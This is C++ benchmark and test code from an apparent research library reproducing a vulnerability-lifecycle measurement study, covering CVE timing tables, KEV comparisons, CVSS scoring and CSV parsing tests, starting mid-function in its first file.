    for (const auto& obs : observations) {
      net::TcpSession stripped;
      stripped.open_time = obs.time;
      stripped.src = obs.src;
      stripped.dst = obs.dst;
      stripped.dst_port = obs.dst_port;
      darknet_matched += matcher.earliest_published_match(stripped) != nullptr ? 1 : 0;
    }
    report::TextTable table({"vantage", "sessions seen", "CVEs identifiable"});
    table.add_row({"darknet (SYN metadata only)", std::to_string(observations.size()),
                   std::to_string(darknet_matched)});
    table.add_row({"DSCOPE (client banners)", std::to_string(sessions.size()),
                   std::to_string(study.reconstruction.timelines.size())});
    std::cout << table.render();
    std::cout << "Interactivity is the whole game: identical traffic, zero attributable\n"
                 "CVEs without the application-layer bytes.\n";
  }
  return 0;
}
