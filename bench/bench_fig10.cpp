// Figure 10: A - P distribution for CISA KEV entries (A = date the CVE was
// added to KEV), plus the Finding 16 comparison with DSCOPE.
#include <iostream>

#include "data/kev.h"
#include "lifecycle/kev_compare.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto catalog = data::synthesize_kev();
  const auto days = lifecycle::kev_attack_minus_publication_days(catalog);
  const stats::Ecdf cdf(days);

  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days from NVD publication to KEV addition";
  report::print_figure(std::cout, "Figure 10: A - P for Known Exploited Vulnerabilities",
                       {report::ecdf_series("KEV", cdf)}, options);

  report::print_comparison(std::cout, "KEV pre-publication exploitation rate", 0.18,
                           lifecycle::kev_pre_publication_rate(catalog));

  // DSCOPE's rate for comparison (Finding 16: 10 % vs 18 %).
  const auto timelines = lifecycle::study_timelines();
  std::size_t early = 0;
  std::size_t known = 0;
  for (const auto& tl : timelines) {
    const auto pre = tl.precedes(lifecycle::Event::kAttacks, lifecycle::Event::kPublicAwareness);
    if (!pre) continue;
    ++known;
    early += *pre ? 1 : 0;
  }
  report::print_comparison(std::cout, "DSCOPE pre-publication exploitation rate", 0.10,
                           static_cast<double>(early) / static_cast<double>(known));
  std::cout << "entries: " << catalog.entries.size() << " (paper: 424)\n";
  return 0;
}
