// Table 1: prior empirical CVE-lifecycle studies and the events each could
// observe.  Context table (no measurement); reproduced for completeness,
// with this work's row cross-checked against the library's actual event
// coverage.
#include <array>
#include <iostream>

#include "data/appendix_e.h"
#include "lifecycle/timeline.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  report::TextTable table(
      {"Study", "Attack traffic", "# CVEs", "Vantage point", "Dates", "V", "F", "P", "D", "X",
       "A"});
  table.add_row({"Arbaugh et al. [3]", "yes", "3", "Common vulnerabilities", "1996-1999", "x",
                 "x", "x", "-", "x", "x"});
  table.add_row({"Frei et al. [16]", "", "27k", "Commodity CVEs", "1996-2008", "-", "x", "x", "-",
                 "x", "-"});
  table.add_row({"Bilge & Dumitras [5]", "yes", "18", "Antivirus signatures", "2008-2011", "-",
                 "-", "x", "-", "x", "x"});
  table.add_row({"Zhang et al. [51]", "", "9", "Cloud OS CVEs", "2012", "-", "-", "x", "x", "-",
                 "-"});
  table.add_row({"Li & Paxson [24]", "", "3.1k", "Open source CVEs", "2005-2016", "-", "x", "x",
                 "-", "-", "-"});
  table.add_row({"Alexopoulos et al. [1]", "", "12k", "Open source CVEs", "2011-2020", "-", "x",
                 "x", "-", "-", "-"});
  table.add_row({"Householder et al. [19,20]", "", "2.7k/73k", "Microsoft / commodity",
                 "2015-2020", "-", "x", "x", "-", "x", "x"});

  // This work's row, derived from the library itself.
  const auto timelines = lifecycle::study_timelines();
  std::array<int, lifecycle::kEventCount> coverage{};
  for (const auto& tl : timelines) {
    for (lifecycle::Event e : lifecycle::kAllEvents) {
      coverage[lifecycle::index_of(e)] += tl.has(e) ? 1 : 0;
    }
  }
  const auto mark = [&](lifecycle::Event e) {
    return coverage[lifecycle::index_of(e)] > 0 ? std::string("x") : std::string("-");
  };
  table.add_row({"This work (DSCOPE)", "yes", std::to_string(timelines.size()),
                 "DSCOPE-observed CVEs", "2021-2023", mark(lifecycle::Event::kVendorAwareness),
                 mark(lifecycle::Event::kFixReady), mark(lifecycle::Event::kPublicAwareness),
                 mark(lifecycle::Event::kFixDeployed), mark(lifecycle::Event::kExploitPublic),
                 mark(lifecycle::Event::kAttacks)});

  std::cout << "=== Table 1 -- empirical studies of CVE lifecycles ===\n" << table.render();
  std::cout << "\nThis work covers all six lifecycle events on " << timelines.size()
            << " CVEs (paper: 63).\n";
  return 0;
}
