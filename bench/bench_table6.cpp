// Table 6: Log4Shell mitigation variants -- the signature groups, their
// release offsets, and first-match offsets, re-measured from the pipeline.
#include <iostream>
#include <map>

#include "common.h"
#include "data/log4shell_variants.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto* rec = data::find_cve("CVE-2021-44228");

  // Measured first match per variant sid from ground-truth-free detection:
  // rerun the matcher attribution over the captured Log4Shell sessions.
  std::map<int, util::TimePoint> first_match;
  const ids::Matcher matcher(study.ruleset.rules());
  for (const auto& session : study.traffic.sessions) {
    const ids::Rule* rule = matcher.earliest_published_match(session);
    if (rule == nullptr || rule->cve != "CVE-2021-44228") continue;
    const auto it = first_match.find(rule->sid);
    if (it == first_match.end() || session.open_time < it->second) {
      first_match[rule->sid] = session.open_time;
    }
  }

  report::TextTable table({"Group", "D-P", "SID", "A-D (paper)", "A-D (measured)", "Context",
                           "Match", "Adaptation"});
  for (const auto& variant : data::log4shell_variants()) {
    const auto release = rec->published + variant.group_d_minus_p;
    std::string measured = "-";
    if (first_match.count(variant.sid)) {
      measured = util::format_offset(first_match.at(variant.sid) - release);
    }
    table.add_row({std::string(1, variant.group), util::format_offset(variant.group_d_minus_p),
                   std::to_string(variant.sid), util::format_offset(variant.a_minus_d), measured,
                   data::to_string(variant.context), data::to_string(variant.match),
                   variant.adaptation});
  }
  std::cout << "=== Table 6 -- Log4Shell mitigation variants ===\n" << table.render();
  std::cout << "\nIncreasingly sophisticated evasions (case-mapping, $-escapes, jndi splits,\n"
               "SMTP carrier, method injection) each required new signature groups (A-E).\n";
  return 0;
}
