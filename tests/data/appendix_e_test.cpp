#include "data/appendix_e.h"

#include <gtest/gtest.h>

#include <set>

namespace cvewb::data {
namespace {

TEST(AppendixE, HasExactly63Cves) { EXPECT_EQ(appendix_e().size(), 63u); }

TEST(AppendixE, IdsAreUniqueAndWellFormed) {
  std::set<std::string> ids;
  for (const auto& rec : appendix_e()) {
    EXPECT_TRUE(rec.id.rfind("CVE-", 0) == 0) << rec.id;
    EXPECT_TRUE(ids.insert(rec.id).second) << "duplicate " << rec.id;
  }
}

TEST(AppendixE, SortedByPublicationDate) {
  const auto& rows = appendix_e();
  for (std::size_t i = 1; i < rows.size(); ++i) {
    EXPECT_LE(rows[i - 1].published, rows[i].published);
  }
}

TEST(AppendixE, PublicationDatesInsideStudyWindow) {
  for (const auto& rec : appendix_e()) {
    EXPECT_GE(rec.published, study_begin()) << rec.id;
    EXPECT_LT(rec.published, study_end()) << rec.id;
  }
}

TEST(AppendixE, EightCvesHaveRulesBeforePublication) {
  // Finding 6: 8 (13 %) of studied CVEs had IDS fixes deployed before
  // publication; 5 of those were disclosed by the IDS vendor itself.
  int before = 0;
  int before_and_talos = 0;
  for (const auto& rec : appendix_e()) {
    if (rec.d_minus_p && rec.d_minus_p->total_seconds() < 0) {
      ++before;
      if (rec.talos_disclosed) ++before_and_talos;
    }
  }
  EXPECT_EQ(before, 8);
  EXPECT_EQ(before_and_talos, 5);
}

TEST(AppendixE, SixCvesAttackedBeforePublication) {
  int early = 0;
  for (const auto& rec : appendix_e()) {
    if (rec.a_minus_p && rec.a_minus_p->total_seconds() < 0) ++early;
  }
  EXPECT_EQ(early, 6);  // drives P < A = 0.90 in Table 4
}

TEST(AppendixE, TotalEventsMatchEmbeddedSum) {
  EXPECT_EQ(total_events(), 116824);
  // The paper reports 146 k exploit events; the printed per-CVE "Events"
  // column sums to ~117 k (see DESIGN.md on the discrepancy).
  EXPECT_GT(total_events(), 100000);
}

TEST(AppendixE, VendorAndCweDiversityMatchSection4) {
  EXPECT_EQ(distinct_vendors(), 40);  // "spanned 40 different software vendors"
  EXPECT_EQ(distinct_cwes(), 25);     // "25 CWEs represented"
}

TEST(AppendixE, FiveTalosDisclosures) {
  int talos = 0;
  for (const auto& rec : appendix_e()) talos += rec.talos_disclosed ? 1 : 0;
  EXPECT_EQ(talos, 5);  // Finding 2: only 5 of 63 disclosed by Cisco
}

TEST(AppendixE, MedianImpactIsCritical) {
  // §3.1: studied exploits have median 9.8 CVSS.
  std::vector<double> impacts;
  for (const auto& rec : appendix_e()) impacts.push_back(rec.impact);
  std::sort(impacts.begin(), impacts.end());
  EXPECT_DOUBLE_EQ(impacts[impacts.size() / 2], 9.8);
}

TEST(AppendixE, Log4ShellRow) {
  const CveRecord* rec = find_cve("CVE-2021-44228");
  ASSERT_NE(rec, nullptr);
  EXPECT_EQ(util::format_date(rec->published), "2021-12-10");
  EXPECT_EQ(rec->events, 6254);
  EXPECT_DOUBLE_EQ(rec->impact, 10.0);
  ASSERT_TRUE(rec->d_minus_p.has_value());
  EXPECT_EQ(rec->d_minus_p->total_seconds(), 19 * 3600);
  ASSERT_TRUE(rec->a_minus_p.has_value());
  EXPECT_EQ(rec->a_minus_p->total_seconds(), 13 * 3600);
}

TEST(AppendixE, MissingEventsAreNullopt) {
  const CveRecord* rec = find_cve("CVE-2022-44877");
  ASSERT_NE(rec, nullptr);
  EXPECT_FALSE(rec->d_minus_p.has_value());
  EXPECT_FALSE(rec->x_minus_p.has_value());
  EXPECT_FALSE(rec->a_minus_p.has_value());
  EXPECT_FALSE(rec->fix_deployed().has_value());
  EXPECT_FALSE(rec->first_attack().has_value());
}

TEST(AppendixE, AbsoluteEventHelpers) {
  const CveRecord* rec = find_cve("CVE-2021-27561");  // D-P and A-P negative
  ASSERT_NE(rec, nullptr);
  ASSERT_TRUE(rec->fix_deployed().has_value());
  EXPECT_LT(*rec->fix_deployed(), rec->published);
  ASSERT_TRUE(rec->first_attack().has_value());
  EXPECT_LT(*rec->first_attack(), *rec->fix_deployed());
}

TEST(AppendixE, FindCveMissesGracefully) {
  EXPECT_EQ(find_cve("CVE-1999-0001"), nullptr);
}

TEST(AppendixE, StudyWindowIsTwoYears) {
  EXPECT_NEAR((study_end() - study_begin()).total_days(), 730.0, 1.0);
}

}  // namespace
}  // namespace cvewb::data
