#include "data/cvss.h"

#include <gtest/gtest.h>

namespace cvewb::data {
namespace {

struct ScoreCase {
  const char* vector;
  double expected;
};

class KnownScores : public ::testing::TestWithParam<ScoreCase> {};

TEST_P(KnownScores, Match) {
  const auto vector = parse_cvss(GetParam().vector);
  ASSERT_TRUE(vector.has_value()) << GetParam().vector;
  EXPECT_DOUBLE_EQ(cvss_base_score(*vector), GetParam().expected) << GetParam().vector;
}

INSTANTIATE_TEST_SUITE_P(
    FirstOrgReference, KnownScores,
    ::testing::Values(
        // The ubiquitous unauthenticated-network-RCE vector.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8},
        // Log4Shell: scope changed -> 10.0.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", 10.0},
        // Apache 41773 (path traversal as published).
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N", 7.5},
        // Stored-XSS-ish vector.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", 6.1},
        // Local high-complexity example.
        ScoreCase{"CVSS:3.1/AV:L/AC:H/PR:L/UI:R/S:U/C:H/I:H/A:H", 6.7},
        // Information disclosure only.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N", 5.3},
        // No impact at all -> 0.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:N", 0.0},
        // DoS-style availability-only.
        ScoreCase{"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H", 7.5}),
    [](const auto& info) { return "case_" + std::to_string(info.index); });

TEST(CvssParse, RoundTripsCanonicalString) {
  const char* text = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H";
  const auto vector = parse_cvss(text);
  ASSERT_TRUE(vector.has_value());
  EXPECT_EQ(vector->to_string(), text);
  const auto reparsed = parse_cvss(vector->to_string());
  ASSERT_TRUE(reparsed.has_value());
  EXPECT_DOUBLE_EQ(cvss_base_score(*reparsed), cvss_base_score(*vector));
}

TEST(CvssParse, OrderInsensitiveAndPrefixOptional) {
  const auto a = parse_cvss("AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H");
  const auto b = parse_cvss("CVSS:3.0/C:H/I:H/A:H/AV:N/AC:L/PR:N/UI:N/S:U");
  ASSERT_TRUE(a.has_value());
  ASSERT_TRUE(b.has_value());
  EXPECT_DOUBLE_EQ(cvss_base_score(*a), cvss_base_score(*b));
}

TEST(CvssParse, RejectsMalformed) {
  EXPECT_FALSE(parse_cvss("").has_value());
  EXPECT_FALSE(parse_cvss("AV:N/AC:L").has_value());  // missing base metrics
  EXPECT_FALSE(parse_cvss("AV:X/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H").has_value());
  EXPECT_FALSE(parse_cvss("CVSS:2.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H").has_value());
  EXPECT_FALSE(parse_cvss("AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H/E:F").has_value());
}

TEST(CvssRoundup, SpecBehaviour) {
  EXPECT_DOUBLE_EQ(cvss_roundup(4.02), 4.1);
  EXPECT_DOUBLE_EQ(cvss_roundup(4.0), 4.0);
  EXPECT_DOUBLE_EQ(cvss_roundup(4.001), 4.1);
  EXPECT_DOUBLE_EQ(cvss_roundup(0.0), 0.0);
}

TEST(CvssScores, PrivilegeWeightDependsOnScope) {
  // PR:L is worth more under changed scope (0.68 vs 0.62).
  const auto unchanged = parse_cvss("AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H");
  const auto changed = parse_cvss("AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:H/A:H");
  EXPECT_DOUBLE_EQ(cvss_base_score(*unchanged), 8.8);
  EXPECT_DOUBLE_EQ(cvss_base_score(*changed), 9.9);
}

TEST(CvssSeverity, Bands) {
  EXPECT_EQ(cvss_severity(0.0), "None");
  EXPECT_EQ(cvss_severity(3.9), "Low");
  EXPECT_EQ(cvss_severity(5.0), "Medium");
  EXPECT_EQ(cvss_severity(8.8), "High");
  EXPECT_EQ(cvss_severity(9.8), "Critical");
}

TEST(CvssScores, MonotoneInImpact) {
  // Raising any CIA metric never lowers the score.
  const auto low = parse_cvss("AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:N/A:N");
  const auto high = parse_cvss("AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N");
  EXPECT_LT(cvss_base_score(*low), cvss_base_score(*high));
}

}  // namespace
}  // namespace cvewb::data
