#include "data/nvd.h"

#include "data/cvss.h"

#include <gtest/gtest.h>

namespace cvewb::data {
namespace {

TEST(NvdMixture, WeightsSumToOne) {
  double total = 0;
  for (const auto& [score, weight] : nvd_score_mixture()) {
    EXPECT_GE(score, 0.0);
    EXPECT_LE(score, 10.0);
    EXPECT_GT(weight, 0.0);
    total += weight;
  }
  EXPECT_NEAR(total, 1.0, 1e-9);
}

TEST(NvdMixture, QuantileIsMonotone) {
  double prev = 0;
  for (double u = 0.0; u <= 1.0; u += 0.01) {
    const double q = nvd_score_quantile(u);
    EXPECT_GE(q, prev);
    prev = q;
  }
}

TEST(NvdMixture, QuantileClampsOutOfRange) {
  EXPECT_DOUBLE_EQ(nvd_score_quantile(-1.0), nvd_score_quantile(0.0));
  EXPECT_DOUBLE_EQ(nvd_score_quantile(2.0), nvd_score_quantile(1.0));
}

TEST(NvdPopulation, MedianNearSevenCriticalTailNearFifteenPercent) {
  const auto impacts = population_impacts(10000);
  double critical = 0;
  for (double v : impacts) critical += v >= 9.0 ? 1 : 0;
  EXPECT_NEAR(critical / 10000.0, 0.15, 0.03);
  EXPECT_NEAR(impacts[5000], 7.2, 0.5);
}

TEST(NvdPopulation, VectorBackedRecordsScoreConsistently) {
  util::Rng rng(11);
  const auto population = synthesize_population_with_vectors(500, rng);
  ASSERT_EQ(population.size(), 500u);
  for (const auto& rec : population) {
    const auto vector = parse_cvss(rec.cvss_vector);
    ASSERT_TRUE(vector.has_value()) << rec.cvss_vector;
    EXPECT_DOUBLE_EQ(rec.impact, cvss_base_score(*vector)) << rec.cvss_vector;
  }
}

TEST(NvdPopulation, VectorBackedShapeMatchesMixtureRoughly) {
  util::Rng rng(12);
  const auto population = synthesize_population_with_vectors(5000, rng);
  double critical = 0;
  double low = 0;
  for (const auto& rec : population) {
    critical += rec.impact >= 9.0 ? 1 : 0;
    low += rec.impact < 4.0 ? 1 : 0;
  }
  EXPECT_NEAR(critical / 5000.0, 0.15, 0.05);
  EXPECT_LT(low / 5000.0, 0.10);
}

TEST(NvdPopulation, SynthesizeIsDeterministicPerRng) {
  util::Rng a(3);
  util::Rng b(3);
  const auto pa = synthesize_population(100, a);
  const auto pb = synthesize_population(100, b);
  ASSERT_EQ(pa.size(), 100u);
  for (std::size_t i = 0; i < pa.size(); ++i) {
    EXPECT_EQ(pa[i].published, pb[i].published);
    EXPECT_DOUBLE_EQ(pa[i].impact, pb[i].impact);
  }
}

}  // namespace
}  // namespace cvewb::data
