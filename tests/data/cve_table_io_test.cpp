#include "data/cve_table_io.h"

#include <gtest/gtest.h>

#include <sstream>

#include "util/csv.h"

namespace cvewb::data {
namespace {

TEST(CveTableIo, RoundTripsTheFullAppendix) {
  const std::string csv = cve_table_to_csv(appendix_e());
  std::string error;
  const auto parsed = cve_table_from_csv(csv, error);
  ASSERT_TRUE(parsed.has_value()) << error;
  ASSERT_EQ(parsed->size(), appendix_e().size());
  for (std::size_t i = 0; i < parsed->size(); ++i) {
    const auto& a = appendix_e()[i];
    const auto& b = (*parsed)[i];
    EXPECT_EQ(a.id, b.id);
    EXPECT_EQ(a.published, b.published);
    EXPECT_EQ(a.events, b.events);
    EXPECT_EQ(a.description, b.description);
    EXPECT_DOUBLE_EQ(a.impact, b.impact);
    EXPECT_EQ(a.d_minus_p.has_value(), b.d_minus_p.has_value()) << a.id;
    if (a.d_minus_p) {
      // Offsets round-trip at hour resolution (the table's own precision).
      EXPECT_EQ(a.d_minus_p->total_seconds() / 3600, b.d_minus_p->total_seconds() / 3600);
    }
    EXPECT_EQ(a.exploitability, b.exploitability);
    EXPECT_EQ(a.vendor, b.vendor);
    EXPECT_EQ(a.cwe, b.cwe);
    EXPECT_EQ(a.protocol, b.protocol);
    EXPECT_EQ(a.service_port, b.service_port);
    EXPECT_EQ(a.talos_disclosed, b.talos_disclosed);
  }
}

TEST(CveTableIo, DescriptionsWithCommasSurvive) {
  std::vector<CveRecord> records = {appendix_e().front()};
  records[0].description = "a, \"quoted\", description";
  std::string error;
  const auto parsed = cve_table_from_csv(cve_table_to_csv(records), error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ((*parsed)[0].description, "a, \"quoted\", description");
}

struct BadTableCase {
  const char* name;
  const char* mutation_target;  // substring of a valid CSV to replace
  const char* replacement;
  const char* expected_error_fragment;
};

class BadTables : public ::testing::TestWithParam<BadTableCase> {};

TEST_P(BadTables, RejectedWithDiagnostic) {
  std::string csv = cve_table_to_csv({appendix_e().front()});
  const auto pos = csv.find(GetParam().mutation_target);
  ASSERT_NE(pos, std::string::npos) << GetParam().name;
  csv.replace(pos, std::string(GetParam().mutation_target).size(), GetParam().replacement);
  std::string error;
  const auto parsed = cve_table_from_csv(csv, error);
  EXPECT_FALSE(parsed.has_value()) << GetParam().name;
  EXPECT_NE(error.find(GetParam().expected_error_fragment), std::string::npos)
      << GetParam().name << ": " << error;
}

INSTANTIATE_TEST_SUITE_P(
    Malformed, BadTables,
    ::testing::Values(
        BadTableCase{"bad_header", "cve,published", "id,published", "unexpected column"},
        BadTableCase{"bad_date", "2021-04-21", "not-a-date", "bad published date"},
        BadTableCase{"bad_port", ",443,", ",70000,", "bad service port"},
        BadTableCase{"bad_impact", ",10,", ",11,", "impact out of range"},
        // std::stod would have truncated "3.5xyz" to 3.5; the checked
        // parser requires the whole token to be numeric.
        BadTableCase{"impact_trailing_garbage", ",10,", ",3.5xyz,", "bad impact"},
        // "nan" parses as a double but defeats the 0..10 range check
        // (every comparison against NaN is false); the checked parser
        // rejects non-finite values outright.  Same for infinities.
        BadTableCase{"impact_nan", ",10,", ",nan,", "bad impact"},
        BadTableCase{"impact_inf", ",10,", ",inf,", "bad impact"},
        BadTableCase{"impact_empty", ",10,", ",,", "bad impact"},
        BadTableCase{"bad_flag", ",443,0", ",443,x", "bad talos flag"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(CveTableIo, EmptyDocumentRejected) {
  std::string error;
  EXPECT_FALSE(cve_table_from_csv("", error).has_value());
  EXPECT_FALSE(error.empty());
}

TEST(CveTableIoLenient, LoadsEverythingFromACleanTable) {
  const std::string csv = cve_table_to_csv(appendix_e());
  std::string error;
  const auto loaded = cve_table_from_csv_lenient(csv, error);
  ASSERT_TRUE(loaded.has_value()) << error;
  EXPECT_EQ(loaded->records.size(), appendix_e().size());
  EXPECT_TRUE(loaded->skipped.empty());
}

TEST(CveTableIoLenient, SkipsBadRowsAndReportsThem) {
  // Three rows: a good one, one with garbage impact, one truncated.
  ASSERT_GE(appendix_e().size(), 2u);
  std::vector<CveRecord> records = {appendix_e()[0], appendix_e()[1]};
  std::string csv = cve_table_to_csv(records);
  std::vector<std::string> lines;
  std::istringstream in(csv);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  ASSERT_EQ(lines.size(), 3u);  // header + 2 data rows
  // Row 2: inject a non-numeric impact by replacing the 5th field.
  {
    std::string& line = lines[2];
    std::size_t commas = 0;
    std::size_t begin = 0;
    std::size_t end = std::string::npos;
    bool in_quotes = false;
    for (std::size_t i = 0; i < line.size(); ++i) {
      if (line[i] == '"') in_quotes = !in_quotes;
      if (line[i] == ',' && !in_quotes) {
        ++commas;
        if (commas == 4) begin = i + 1;
        if (commas == 5) {
          end = i;
          break;
        }
      }
    }
    ASSERT_NE(end, std::string::npos);
    line.replace(begin, end - begin, "9.9garbage");
  }
  // Row 3: a truncated row (fields cut off mid-record).
  lines.push_back(lines[1].substr(0, lines[1].find(',', lines[1].find(',') + 1)));
  std::string doctored;
  for (const auto& line : lines) doctored += line + "\n";

  std::string error;
  const auto loaded = cve_table_from_csv_lenient(doctored, error);
  ASSERT_TRUE(loaded.has_value()) << error;
  ASSERT_EQ(loaded->records.size(), 1u);
  EXPECT_EQ(loaded->records[0].id, records[0].id);
  ASSERT_EQ(loaded->skipped.size(), 2u);
  EXPECT_EQ(loaded->skipped[0].row_number, 2u);
  EXPECT_EQ(loaded->skipped[0].cve_id, records[1].id);
  EXPECT_NE(loaded->skipped[0].reason.find("bad impact"), std::string::npos)
      << loaded->skipped[0].reason;
  EXPECT_EQ(loaded->skipped[1].row_number, 3u);
  EXPECT_NE(loaded->skipped[1].reason.find("wrong field count"), std::string::npos)
      << loaded->skipped[1].reason;

  // The strict loader rejects the same document outright.
  const auto strict = cve_table_from_csv(doctored, error);
  EXPECT_FALSE(strict.has_value());
  EXPECT_NE(error.find("at data row 2"), std::string::npos) << error;
}

TEST(CveTableIoLenient, StructuralErrorsStillFailTheWholeLoad) {
  std::string error;
  // Wrong header: nothing after it can be trusted.
  EXPECT_FALSE(cve_table_from_csv_lenient("id,published\nx,y\n", error).has_value());
  EXPECT_FALSE(error.empty());
  // Unbalanced quoting breaks row framing entirely.
  std::string csv = cve_table_to_csv({appendix_e().front()});
  csv += "\"unterminated\n";
  EXPECT_FALSE(cve_table_from_csv_lenient(csv, error).has_value());
}

TEST(CsvParsing, QuotedFieldsAndEscapes) {
  const auto fields = util::parse_csv_line(R"(a,"b,c","say ""hi""",)");
  ASSERT_TRUE(fields.has_value());
  ASSERT_EQ(fields->size(), 4u);
  EXPECT_EQ((*fields)[1], "b,c");
  EXPECT_EQ((*fields)[2], "say \"hi\"");
  EXPECT_EQ((*fields)[3], "");
  EXPECT_FALSE(util::parse_csv_line("\"unterminated").has_value());
  EXPECT_FALSE(util::parse_csv_line("mid\"quote").has_value());
}

}  // namespace
}  // namespace cvewb::data
