#include "data/cve_table_io.h"

#include <gtest/gtest.h>

#include "util/csv.h"

namespace cvewb::data {
namespace {

TEST(CveTableIo, RoundTripsTheFullAppendix) {
  const std::string csv = cve_table_to_csv(appendix_e());
  std::string error;
  const auto parsed = cve_table_from_csv(csv, error);
  ASSERT_TRUE(parsed.has_value()) << error;
  ASSERT_EQ(parsed->size(), appendix_e().size());
  for (std::size_t i = 0; i < parsed->size(); ++i) {
    const auto& a = appendix_e()[i];
    const auto& b = (*parsed)[i];
    EXPECT_EQ(a.id, b.id);
    EXPECT_EQ(a.published, b.published);
    EXPECT_EQ(a.events, b.events);
    EXPECT_EQ(a.description, b.description);
    EXPECT_DOUBLE_EQ(a.impact, b.impact);
    EXPECT_EQ(a.d_minus_p.has_value(), b.d_minus_p.has_value()) << a.id;
    if (a.d_minus_p) {
      // Offsets round-trip at hour resolution (the table's own precision).
      EXPECT_EQ(a.d_minus_p->total_seconds() / 3600, b.d_minus_p->total_seconds() / 3600);
    }
    EXPECT_EQ(a.exploitability, b.exploitability);
    EXPECT_EQ(a.vendor, b.vendor);
    EXPECT_EQ(a.cwe, b.cwe);
    EXPECT_EQ(a.protocol, b.protocol);
    EXPECT_EQ(a.service_port, b.service_port);
    EXPECT_EQ(a.talos_disclosed, b.talos_disclosed);
  }
}

TEST(CveTableIo, DescriptionsWithCommasSurvive) {
  std::vector<CveRecord> records = {appendix_e().front()};
  records[0].description = "a, \"quoted\", description";
  std::string error;
  const auto parsed = cve_table_from_csv(cve_table_to_csv(records), error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ((*parsed)[0].description, "a, \"quoted\", description");
}

struct BadTableCase {
  const char* name;
  const char* mutation_target;  // substring of a valid CSV to replace
  const char* replacement;
  const char* expected_error_fragment;
};

class BadTables : public ::testing::TestWithParam<BadTableCase> {};

TEST_P(BadTables, RejectedWithDiagnostic) {
  std::string csv = cve_table_to_csv({appendix_e().front()});
  const auto pos = csv.find(GetParam().mutation_target);
  ASSERT_NE(pos, std::string::npos) << GetParam().name;
  csv.replace(pos, std::string(GetParam().mutation_target).size(), GetParam().replacement);
  std::string error;
  const auto parsed = cve_table_from_csv(csv, error);
  EXPECT_FALSE(parsed.has_value()) << GetParam().name;
  EXPECT_NE(error.find(GetParam().expected_error_fragment), std::string::npos)
      << GetParam().name << ": " << error;
}

INSTANTIATE_TEST_SUITE_P(
    Malformed, BadTables,
    ::testing::Values(
        BadTableCase{"bad_header", "cve,published", "id,published", "unexpected column"},
        BadTableCase{"bad_date", "2021-04-21", "not-a-date", "bad published date"},
        BadTableCase{"bad_port", ",443,", ",70000,", "bad service port"},
        BadTableCase{"bad_impact", ",10,", ",11,", "impact out of range"},
        BadTableCase{"bad_flag", ",443,0", ",443,x", "bad talos flag"}),
    [](const auto& info) { return std::string(info.param.name); });

TEST(CveTableIo, EmptyDocumentRejected) {
  std::string error;
  EXPECT_FALSE(cve_table_from_csv("", error).has_value());
  EXPECT_FALSE(error.empty());
}

TEST(CsvParsing, QuotedFieldsAndEscapes) {
  const auto fields = util::parse_csv_line(R"(a,"b,c","say ""hi""",)");
  ASSERT_TRUE(fields.has_value());
  ASSERT_EQ(fields->size(), 4u);
  EXPECT_EQ((*fields)[1], "b,c");
  EXPECT_EQ((*fields)[2], "say \"hi\"");
  EXPECT_EQ((*fields)[3], "");
  EXPECT_FALSE(util::parse_csv_line("\"unterminated").has_value());
  EXPECT_FALSE(util::parse_csv_line("mid\"quote").has_value());
}

}  // namespace
}  // namespace cvewb::data
