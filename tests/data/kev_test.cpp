#include "data/kev.h"

#include <gtest/gtest.h>

#include <set>

#include "data/appendix_e.h"

namespace cvewb::data {
namespace {

class KevTest : public ::testing::Test {
 protected:
  KevCatalog catalog_ = synthesize_kev(7);
};

TEST_F(KevTest, CatalogHas424Entries) { EXPECT_EQ(catalog_.entries.size(), 424u); }

TEST_F(KevTest, FortyFourSharedWithStudy) {
  EXPECT_EQ(catalog_.shared_with_study().size(), 44u);  // 70 % of 63
}

TEST_F(KevTest, SharedEntriesAreRealStudyCves) {
  for (const KevEntry* entry : catalog_.shared_with_study()) {
    const CveRecord* rec = find_cve(entry->cve_id);
    ASSERT_NE(rec, nullptr) << entry->cve_id;
    EXPECT_EQ(rec->published, entry->nvd_published);
    EXPECT_DOUBLE_EQ(rec->impact, entry->impact);
  }
}

TEST_F(KevTest, EighteenPercentAddedBeforePublication) {
  int early = 0;
  for (const auto& entry : catalog_.entries) {
    if (entry.date_added < entry.nvd_published) ++early;
  }
  EXPECT_NEAR(static_cast<double>(early) / 424.0, 0.18, 0.015);  // Finding 16
}

TEST_F(KevTest, Figure11CountsExact) {
  // 26/44 DSCOPE-first, 22/44 by more than 30 days.
  int dscope_first = 0;
  int dscope_first_30d = 0;
  for (const KevEntry* entry : catalog_.shared_with_study()) {
    const CveRecord* rec = find_cve(entry->cve_id);
    const auto attack = rec->first_attack();
    ASSERT_TRUE(attack.has_value());
    const double delta_days = (*attack - entry->date_added).total_days();
    if (delta_days < 0) ++dscope_first;
    if (delta_days < -30) ++dscope_first_30d;
  }
  EXPECT_EQ(dscope_first, 26);
  EXPECT_EQ(dscope_first_30d, 22);
}

